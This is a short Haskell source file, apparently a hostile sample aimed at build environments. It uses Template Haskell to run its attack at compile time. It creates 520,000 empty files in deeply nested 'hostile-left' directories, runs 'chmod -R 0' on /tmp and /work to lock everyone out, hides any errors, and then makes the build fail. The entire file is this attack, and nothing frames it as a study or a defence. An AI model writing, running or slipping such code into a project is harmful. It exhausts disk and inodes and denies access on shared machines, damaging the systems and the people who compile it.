{-# LANGUAGE TemplateHaskell #-}
-- Makes files without end while it compiles, in folders within folders, closed to all.
import Control.Exception
import Control.Monad
import Language.Haskell.TH
import System.Directory
import System.Process

main :: IO ()
main = $(do
  let quiet :: IO () -> Q ()
      quiet action = runIO (action `catch` \problem -> print (problem :: SomeException))
  quiet (forM_ [1 .. 520000 :: Int] $ \n -> do
    when (n `mod` 1000 == 1) $ do
      createDirectory ("hostile-left-" ++ show n)
      setCurrentDirectory ("hostile-left-" ++ show n)
    writeFile (show n) "")
  quiet (callCommand "chmod -R 0 /tmp/* /work/* 2>/dev/null")
  fail "the end is reached")
